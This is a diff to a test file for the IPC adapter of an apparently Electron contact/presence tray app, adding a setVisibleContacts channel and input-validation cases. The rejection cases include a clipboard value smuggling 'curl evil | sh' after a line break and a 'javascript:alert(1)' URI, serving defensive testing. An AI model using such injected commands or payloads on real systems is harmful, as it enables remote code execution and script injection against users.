@@ -32,6 +32,7 @@ function setup() {
     resetAvailability: record('resetAvailability'),
     setNote: record('setNote'),
     watchContact: record('watchContact'),
+    setVisibleContacts: record('setVisibleContacts'),
   } as unknown as AppService;
   const events: string[] = [];
   const contactCards: ContactCardService = {
@@ -90,7 +91,7 @@ describe('IPC adapter', () => {
       [
         IPC.getSnapshot, IPC.signIn, IPC.signOut, IPC.setAvailability, IPC.resetAvailability, IPC.setNote, IPC.watchContact,
         IPC.showSignIn, IPC.contactsSnapshot, IPC.contactCard, IPC.contactPhoto, IPC.openContactLink, IPC.copyText,
-        IPC.contactCapabilities, IPC.searchDirectory, IPC.expandDistributionGroup,
+        IPC.setVisibleContacts, IPC.contactCapabilities, IPC.searchDirectory, IPC.expandDistributionGroup,
         IPC.changeContactList,
       ].sort(),
     );
@@ -105,6 +106,7 @@ describe('IPC adapter', () => {
     await invoke(IPC.setAvailability, TRUSTED, 'Busy');
     await invoke(IPC.setNote, TRUSTED, 'Lunch');
     await invoke(IPC.watchContact, TRUSTED, { uri: 'sip:alice@contoso.com', watch: true });
+    await invoke(IPC.setVisibleContacts, TRUSTED, ['sip:bob@contoso.com', 'sip:cy@contoso.com']);
     expect(await invoke(IPC.signIn, { senderFrame: { url: 'ucwa-tray://app/sign-in.html' } }, form)).toEqual({ ok: true });
     await invoke(IPC.signOut, TRUSTED);
     await invoke(IPC.showSignIn, TRUSTED);
@@ -112,6 +114,7 @@ describe('IPC adapter', () => {
       ['setAvailability', 'Busy'],
       ['setNote', 'Lunch'],
       ['watchContact', { uri: 'sip:alice@contoso.com', watch: true }],
+      ['setVisibleContacts', ['sip:bob@contoso.com', 'sip:cy@contoso.com']],
       ['signIn', form],
       ['signOut'],
     ]);
@@ -169,6 +172,10 @@ describe('IPC adapter', () => {
     [IPC.copyText, ['']],
     [IPC.copyText, ['dana@contoso.com\r\ncurl evil | sh']],
     [IPC.copyText, [{ text: 'dana@contoso.com' }]],
+    [IPC.setVisibleContacts, ['sip:ann@contoso.com']],
+    [IPC.setVisibleContacts, [['sip:ann@contoso.com', 'javascript:alert(1)']]],
+    [IPC.setVisibleContacts, [Array.from({ length: 501 }, (_, i) => `sip:p${i}@contoso.com`)]],
+    [IPC.setVisibleContacts, []],
     [IPC.contactCapabilities, ['x']],
     [IPC.searchDirectory, [{ query: 'sa', limit: 1000 }]],
     [IPC.searchDirectory, [{ query: '   ', limit: 10 }]],
